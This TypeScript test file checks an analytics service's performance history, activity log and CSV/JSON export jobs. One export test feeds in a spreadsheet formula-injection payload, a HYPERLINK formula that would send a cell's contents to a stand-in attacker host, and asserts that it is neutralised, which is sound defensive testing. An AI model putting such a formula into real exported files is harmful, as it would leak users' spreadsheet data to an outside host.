import assert from 'node:assert/strict';
import { test } from 'node:test';
import Fastify from 'fastify';
import Papa from 'papaparse';
import app from '../../../src/app';
import { analyticsExports } from '../../../src/repositories/analytics/export';
import { analyticsFigures } from '../../../src/repositories/analytics/figures';
import { EXPORT_STARTS_PER_HOUR } from '../../../src/routes/analytics/export';
import { serverOptions } from '../../../src/server-options';
import { browserAgent, forEachDatabase, json, testConfig } from '../../helpers';
import { call, createCopy, createProject, expectData } from '../copy/fixtures';
import { account, data, utcDay } from './fixtures';

/* What writes the history: performance snapshots from every path, the activity log, and the export. */
forEachDatabase(({ db, build }) => {
  const snapshotsOf = (copyId: string) =>
    db().query<{ source: string; views: number; likes: number; clicks: number; day: string }>(
      "SELECT source, views, likes, clicks, to_char(at AT TIME ZONE 'UTC', 'YYYY-MM-DD') AS day FROM copy_performance_snapshots WHERE copy_id = $1 ORDER BY at, id",
      [copyId],
    );

  test('hand entry, a dated CSV import and tracked-link clicks each record what they added, on their day', async (t) => {
    const server = await build(t);
    const owner = await account(server, db(), 'premium');
    const project = await createProject(server, owner, 'Northwind Coffee');
    const linked = await createCopy(server, owner, { projectId: project._id });
    const plain = await createCopy(server, owner, { projectId: project._id, platform: 'twitter' });
    // Hand entry: today.
    expectData(await call(server, owner, 'PATCH', `/copy/${plain.id}`, { performance: { views: 100, likes: 4 } }), 200);
    expectData(await call(server, owner, 'PATCH', `/copy/${plain.id}`, { performance: { views: 150, likes: 4 } }), 200);
    // An import with its own date column: each row on its day, oldest first whatever the file's order.
    const imported = expectData(
      await call(server, owner, 'POST', '/copy/performance/import', {
        rows: [
          { id: plain.id, views: 400, likes: 10, date: utcDay(2) },
          { id: plain.id, views: 300, likes: 6, date: utcDay(5) },
        ],
      }),
      200,
    );
    assert.deepEqual(imported, { updated: 2, skipped: [] });
    assert.deepEqual(await snapshotsOf(plain.id), [
      { source: 'import', views: 150, likes: 2, clicks: 0, day: utcDay(5) },
      { source: 'import', views: 100, likes: 4, clicks: 0, day: utcDay(2) },
      { source: 'entry', views: 100, likes: 4, clicks: 0, day: utcDay(0) },
      { source: 'entry', views: 50, likes: 0, clicks: 0, day: utcDay(0) },
    ]);
    const future = await call(server, owner, 'POST', '/copy/performance/import', {
      rows: [{ id: plain.id, views: 1, date: '2999-01-01' }],
    });
    assert.equal(future.statusCode, 400);
    assert.match(json(future).message, /date must not be in the future/);
    // A tracked link's click: one visit each, counted as the funnel's last step.
    const withLink = expectData(
      await call(server, owner, 'POST', `/copy/${linked.id}/link`, { targetUrl: 'https://northwind.example/' }),
      200,
    );
    for (const visitor of [1, 2]) {
      assert.equal(
        (
          await server.inject({
            url: `/r/${withLink.link.code}`,
            headers: { 'user-agent': browserAgent(visitor) },
            remoteAddress: `198.51.100.${visitor}`,
          })
        ).statusCode,
        302,
      );
    }
    assert.deepEqual(await snapshotsOf(linked.id), [
      { source: 'link', views: 0, likes: 0, clicks: 1, day: utcDay(0) },
      { source: 'link', views: 0, likes: 0, clicks: 1, day: utcDay(0) },
    ]);
    const funnel = await data<Array<{ step: string; count: number }>>(server, owner, '/funnel?range=week&tz=UTC');
    // Views 400 (the copy's total), engagement 10 likes + 2 clicks.
    assert.deepEqual(
      funnel.map((s) => s.count),
      [400, 12, 2, 2],
    );
    const week = await data<Array<{ date: string; views: number }>>(server, owner, '/performance?range=week&tz=UTC');
    assert.deepEqual(
      week.filter((row) => row.views).map((row) => [row.date, row.views]),
      [
        [utcDay(5), 150],
        [utcDay(2), 100],
        [utcDay(0), 150],
      ],
    );
    // The history sums to the totals.
    const [sums] = await db().query<{ views: number }>(
      'SELECT sum(views)::int AS views FROM copy_performance_snapshots WHERE copy_id = $1',
      [plain.id],
    );
    assert.equal(sums!.views, 400);
  });

  test('the activity log: every change, who made it, seen by the project’s collaborators and nobody else', async (t) => {
    const server = await build(t);
    const owner = await account(server, db(), 'premium');
    const viewer = await account(server, db(), 'premium');
    const stranger = await account(server, db(), 'premium');
    const project = await createProject(server, owner, 'Northwind Coffee');
    expectData(
      await call(server, owner, 'POST', `/project/${project._id}/collaborators`, {
        email: viewer.email,
        role: 'viewer',
      }),
      201,
    );
    const made = await createCopy(server, owner, { projectId: project._id, title: 'Spring launch' });
    expectData(await call(server, owner, 'POST', `/copy/${made.id}/publish`), 200);
    assert.equal((await call(server, owner, 'DELETE', `/copy/${made.id}`)).statusCode, 204);
    const activity = await data<Array<{ type: string; title: string; description: string; projectId: string }>>(
      server,
      owner,
      '/activity',
    );
    assert.deepEqual(
      activity.map((a) => a.type),
      ['copy.deleted', 'copy.published', 'copy.created', 'collaborator.invited', 'project.created'],
    );
    assert.equal(activity[0]!.title, 'Copy deleted');
    assert.equal(activity[0]!.description, 'You deleted copy “Spring launch” in Northwind Coffee.');
    assert.equal(activity[4]!.description, 'You created project “Northwind Coffee”.');
    const seen = await data<Array<{ type: string; description: string }>>(server, viewer, '/activity?limit=2');
    assert.deepEqual(
      seen.map((a) => a.type),
      ['copy.deleted', 'copy.published'],
    );
    assert.equal(
      seen[0]!.description,
      `${owner.user.firstName} ${owner.user.lastName} deleted copy “Spring launch” in Northwind Coffee.`,
    );
    assert.deepEqual(await data(server, stranger, '/activity'), []);
    // A refused change records nothing.
    assert.equal(
      (await call(server, viewer, 'PATCH', `/project/${project._id}`, { details: { businessName: 'Mine' } }))
        .statusCode,
      403,
    );
    assert.equal((await data<unknown[]>(server, owner, '/activity?limit=50')).length, 5);
  });

  test('every route that changes a project, message, copy, script or collaborator records activity', async (t) => {
    const { ACTIVITY_AREAS, ACTIVITY_ROUTES, NOT_RECORDED } = await import('../../../src/plugins/app/activity-log');
    const config = testConfig();
    const server = Fastify(serverOptions(config));
    const changes: string[] = [];
    const routes = new Set<string>();
    server.addHook('onRoute', (route) => {
      for (const method of ([] as string[]).concat(route.method)) {
        routes.add(`${method} ${route.url}`);
        if (
          ['POST', 'PATCH', 'PUT', 'DELETE'].includes(method) &&
          ACTIVITY_AREAS.some((area) => route.url.startsWith(area))
        )
          changes.push(`${method} ${route.url}`);
      }
    });
    await server.register(app, { prefix: '/api', config, database: db() });
    await server.ready();
    t.after(() => server.close());
    assert.ok(changes.length >= 30, changes.join(', '));
    const missing = changes.filter((key) => !ACTIVITY_ROUTES[key] && !NOT_RECORDED[key]);
    assert.deepEqual(missing, [], 'add these to ACTIVITY_ROUTES (or NOT_RECORDED with the reason)');
    // And the table names only routes that exist: an entry for a route that was never built records nothing.
    const unknown = [...Object.keys(ACTIVITY_ROUTES), ...Object.keys(NOT_RECORDED)].filter((key) => !routes.has(key));
    assert.deepEqual(unknown, [], 'these entries name no route');
  });

  test('export: a formula with a line break in it is neutralised too', async (t) => {
    const server = await build(t);
    const owner = await account(server, db(), 'premium');
    const project = await createProject(server, owner, 'Northwind');
    const title = '=HYPERLINK("https://evil.example/?"&B3,\n"Open")';
    const made = await createCopy(server, owner, { projectId: project._id, title });
    expectData(await call(server, owner, 'PATCH', `/copy/${made.id}`, { performance: { views: 10 } }), 200);
    let job = expectData(
      await call(server, owner, 'POST', '/analytics/export', { range: 'week', format: 'csv', tz: 'UTC' }),
      202,
    );
    for (let i = 0; i < 50 && job.state === 'generating'; i += 1) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      job = expectData(await call(server, owner, 'GET', `/analytics/export/${job.id}`), 200);
    }
    assert.equal(job.state, 'completed');
    const file = await server.inject({ url: job.url });
    const parsed = Papa.parse<Record<string, string>>(file.body, { header: true, skipEmptyLines: true });
    assert.equal(parsed.data[0]!.copy, `'${title}`);
  });

  test('export: 202 generating, followed to completed; the signed url downloads without a header; formulas neutralised', async (t) => {
    const server = await build(t);
    const owner = await account(server, db(), 'premium');
    const project = await createProject(server, owner, '=Evil Corp');
    const made = await createCopy(server, owner, { projectId: project._id, title: '+1 for spring' });
    expectData(
      await call(server, owner, 'PATCH', `/copy/${made.id}`, { performance: { views: 120, likes: 3, clicks: 3 } }),
      200,
    );
    const job = expectData(
      await call(server, owner, 'POST', '/analytics/export', { range: 'week', format: 'csv', tz: 'UTC' }),
      202,
    );
    assert.deepEqual(
      { state: job.state, percentage: job.percentage, url: job.url },
      { state: 'generating', percentage: 0, url: null },
    );
    let followed = job;
    for (let i = 0; i < 50 && followed.state === 'generating'; i += 1) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      followed = expectData(await call(server, owner, 'GET', `/analytics/export/${job.id}`), 200);
    }
    assert.equal(followed.state, 'completed');
    assert.equal(followed.percentage, 100);
    assert.equal(followed.filename, `brandcast-analytics-week-${utcDay(0)}.csv`);
    const file = await server.inject({ url: followed.url });
    assert.equal(file.statusCode, 200);
    assert.match(String(file.headers['content-disposition']), /attachment; filename="brandcast-analytics-week-/);
    const parsed = Papa.parse<Record<string, string>>(file.body, { header: true, skipEmptyLines: true });
    assert.deepEqual(parsed.data, [
      {
        date: utcDay(0),
        project: "'=Evil Corp",
        copyId: made.id,
        copy: "'+1 for spring",
        platform: 'linkedin',
        views: '120',
        likes: '3',
        comments: '0',
        shares: '0',
        retweets: '0',
        clicks: '3',
        engagement: '6',
        rate: '5',
      },
    ]);
    // Someone else cannot follow it; a tampered or expired address does not download.
    const other = await account(server, db(), 'premium');
    assert.equal((await call(server, other, 'GET', `/analytics/export/${job.id}`)).statusCode, 404);
    assert.equal(
      (await server.inject({ url: followed.url.replace(/signature=[^&]+/, 'signature=x') })).statusCode,
      403,
    );
    const expired = followed.url.replace(/expires=\d+/, `expires=${Math.floor(Date.now() / 1000) - 1}`);
    assert.equal((await server.inject({ url: expired })).statusCode, 403);
    // JSON: the overview, the days and the same rows.
    const asJson = expectData(
      await call(server, owner, 'POST', '/analytics/export', { range: 'day', format: 'json', tz: 'UTC' }),
      202,
    );
    let done = asJson;
    for (let i = 0; i < 50 && done.state === 'generating'; i += 1) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      done = expectData(await call(server, owner, 'GET', `/analytics/export/${asJson.id}`), 200);
    }
    const body = JSON.parse((await server.inject({ url: done.url })).body);
    assert.equal(body.overview.totalViews, 120);
    assert.equal(body.rows[0].copy, '+1 for spring');
    assert.deepEqual(body.performance, [{ date: utcDay(0), views: 120, engagement: 6, copies: 1, messages: 0 }]);
    const bad = await call(server, owner, 'POST', '/analytics/export', { range: 'week', format: 'xlsx' });
    assert.equal(bad.statusCode, 400);
    assert.match(json(bad).message, /format must be one of: csv, json/);
    // Starting the JSON export removed the CSV one, its file with it.
    assert.equal((await call(server, owner, 'GET', `/analytics/export/${job.id}`)).statusCode, 404);
    assert.equal((await server.inject({ url: followed.url })).statusCode, 404);
    // Kept a day: the sweep removes older exports, anyone's, files included; the newer one stays.
    const others = expectData(
      await call(server, other, 'POST', '/analytics/export', { range: 'week', format: 'csv', tz: 'UTC' }),
      202,
    );
    await db().query("UPDATE analytics_exports SET created_at = now() - interval '25 hours' WHERE id = $1", [
      asJson.id,
    ]);
    assert.equal(await analyticsExports(db(), analyticsFigures(db())).sweep(), 1);
    assert.equal((await call(server, owner, 'GET', `/analytics/export/${asJson.id}`)).statusCode, 404);
    assert.equal((await server.inject({ url: done.url })).statusCode, 404);
    assert.equal((await call(server, other, 'GET', `/analytics/export/${others.id}`)).statusCode, 200);
  });

  test('export: one at a time per account (409 while one runs, a lost one does not block), and starts are rate-limited', async (t) => {
    const server = await build(t);
    const owner = await account(server, db(), 'premium');
    const start = (remoteAddress: string) =>
      server.inject({
        method: 'POST',
        url: '/api/analytics/export',
        remoteAddress,
        headers: { authorization: `Bearer ${owner.token}` },
        payload: { range: 'week', format: 'csv', tz: 'UTC' },
      });
    // An export of this account is running (another instance, or a long one).
    const [running] = await db().query<{ id: string }>(
      "INSERT INTO analytics_exports (user_id, format, range) VALUES ($1, 'csv', 'year') RETURNING id",
      [owner.user.id],
    );
    const refused = await start('203.0.113.71');
    assert.equal(refused.statusCode, 409, refused.body);
    assert.match(json(refused).message, /An export is already running\. Wait for it to finish/);
    // Six at once while it runs: none starts.
    const burst = await Promise.all(Array.from({ length: 6 }, () => start('203.0.113.71')));
    assert.deepEqual(
      burst.map((r) => r.statusCode),
      [409, 409, 409, 409, 409, 409],
    );
    const kept = await db().query<{ count: number }>(
      'SELECT count(*)::int AS count FROM analytics_exports WHERE user_id = $1',
      [owner.user.id],
    );
    assert.equal(kept[0]?.count, 1);
    // A job left generating past thirty minutes (the queue's tries are over, or it was never queued) does not block the next.
    await db().query("UPDATE analytics_exports SET created_at = now() - interval '31 minutes' WHERE id = $1", [
      running!.id,
    ]);
    const next = await start('203.0.113.71');
    assert.equal(next.statusCode, 202, next.body);
    // Starts from one address are limited whatever they answer.
    await db().query(
      "INSERT INTO analytics_exports (user_id, format, range) SELECT $1, 'csv', 'year' WHERE NOT EXISTS (SELECT 1 FROM analytics_exports WHERE user_id = $1 AND state = 'generating')",
      [owner.user.id],
    );
    const answers: number[] = [];
    for (let i = 0; i < EXPORT_STARTS_PER_HOUR; i += 1) answers.push((await start('203.0.113.72')).statusCode);
    assert.ok(
      answers.every((status) => status === 409 || status === 202),
      answers.join(),
    );
    const limited = await start('203.0.113.72');
    assert.equal(limited.statusCode, 429, limited.body);
  });
});
